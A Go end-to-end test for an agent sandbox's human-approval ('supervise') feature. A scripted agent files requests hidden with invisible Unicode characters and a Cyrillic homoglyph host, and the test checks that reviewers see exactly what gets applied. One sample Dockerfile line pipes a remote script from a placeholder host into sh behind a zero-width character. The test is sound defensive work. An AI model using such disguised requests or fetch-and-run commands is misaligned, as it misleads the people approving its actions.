package supervise

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/e2e/e2etest"
	"github.com/claude-bottle/claude-bottle/internal/stage"
)

// What the person reviews is what is applied. From inside a real bottle the
// agent files requests with invisible characters (zero-width space, word
// joiner, BOM, TAG characters, a no-break space) in reasons and a
// Dockerfile: each is a tool error naming the character, and nothing is
// filed. A homoglyph host (Cyrillic "а" in "аpple") is filed as its A-label;
// the host shows that form with a note spelling out the Unicode one, and
// approving puts exactly that A-label in the egress policy.
func TestInvisibleAndHomoglyphRequests(t *testing.T) {
	t.Parallel()
	c := e2etest.Engine(t)
	e2etest.Images(t)
	img := agentImage(t, c)
	e := e2etest.NewEnv(t, `
agents:
  probe:
    bottle: box
bottles:
  box:
    supervise: true
    # The agent finds supervise by name through the engine's embedded
    # DNS, which serves runc containers (not gVisor's, on this engine).
    runtime: runc
`)
	inst := e2etest.Unique("cbt-hidden")
	e.Vars["CLAUDE_BOTTLE_CONTAINER"] = inst
	e.Vars["CLAUDE_BOTTLE_IMAGE"] = img

	script := strings.Join([]string{
		`c=supervise-client`,
		`say() { printf '%s %s\n' "$1" "$2"; }`,
		`say ZWSP "$($c request-egress example.test 443 "$(printf 'needed\342\200\213 now')")"`,
		`say WJ "$($c request-egress example.test 443 "$(printf 'needed\342\201\240')")"`,
		`say BOM "$($c request-route gh https://api.example.test "$(printf '\357\273\277needed')")"`,
		`say NBSP "$($c request-egress example.test 443 "$(printf 'needed\302\240now')")"`,
		`printf 'FROM debian\nRUN echo ok # \363\240\201\201\363\240\201\202\n' >/tmp/tag`,
		`say TAGS "$($c propose-dockerfile /tmp/tag 'adds a tool')"`,
		`printf 'FROM debian\nRUN curl https://x.test/i\342\200\213.sh | sh\n' >/tmp/zw`,
		`say DFZWSP "$($c propose-dockerfile /tmp/zw 'adds a tool')"`,
		`say HOMOGLYPH "$($c request-egress "$(printf '\320\260pple.test')" 443 'the docs live there')"`,
		`echo WAITING; read x; echo "BYE $x"`,
	}, "\n")
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	stdin, out, _ := startAgent(t, ctx, e, "run", "probe", "--", "sh", "-c", script)

	for key, want := range map[string]string{
		"ZWSP": "U+200B", "WJ": "U+2060", "BOM": "U+FEFF", "NBSP": "U+00A0", "TAGS": "U+E0041", "DFZWSP": "U+200B",
	} {
		r := parseResult(t, key, out.wait(key))
		if !r.IsError || !strings.Contains(r.Text, want) || !strings.Contains(r.Text, "the person sees exactly what you ask for") {
			t.Errorf("%s: want a tool error naming %s, got %+v", key, want, r)
		}
	}
	r := parseResult(t, "HOMOGLYPH", out.wait("HOMOGLYPH"))
	id, _ := r.Structured["id"].(string)
	if r.IsError || !idRE.MatchString(id) || !strings.Contains(r.Text, "xn--pple-43d.test:443") {
		t.Fatalf("homoglyph host: want it filed as its A-label, got %+v", r)
	}
	out.wait("WAITING")

	// Only the homoglyph request was filed, as its A-label.
	ps := e.SuperviseList(ctx)
	var mine []e2etest.Pending
	for _, p := range ps {
		if p.Instance == inst {
			mine = append(mine, p)
		}
	}
	if len(mine) != 1 || mine[0].Request.Egress == nil || mine[0].Request.Egress.Host != "xn--pple-43d.test" {
		t.Fatalf("pending requests of %s: %+v, want only the A-label one", inst, mine)
	}
	show := e.Run(ctx, "supervise", "show", id)
	for _, want := range []string{"asks:     xn--pple-43d.test:443", `shown elsewhere as "\u0430pple.test"`} {
		if show.Code != 0 || !strings.Contains(show.Stdout, want) {
			t.Errorf("supervise show lacks %s: %s", want, show)
		}
	}
	if ar := e.Run(ctx, "supervise", "approve", id); ar.Code != 0 || !strings.Contains(ar.Stdout, "xn--pple-43d.test:443") {
		t.Fatalf("approve: %s", ar)
	}
	pol, err := os.ReadFile(filepath.Join(stage.InstanceDir(e.State, inst), stage.EgressPolicy))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(pol), `"xn--pple-43d.test"`) || strings.Contains(string(pol), "\u0430") {
		t.Errorf("the applied policy does not hold exactly the A-label shown:\n%s", pol)
	}
	stdin.Write([]byte("done\n"))
	if bye := out.wait("BYE"); bye != "done" {
		t.Errorf("agent said %q", bye)
	}
}
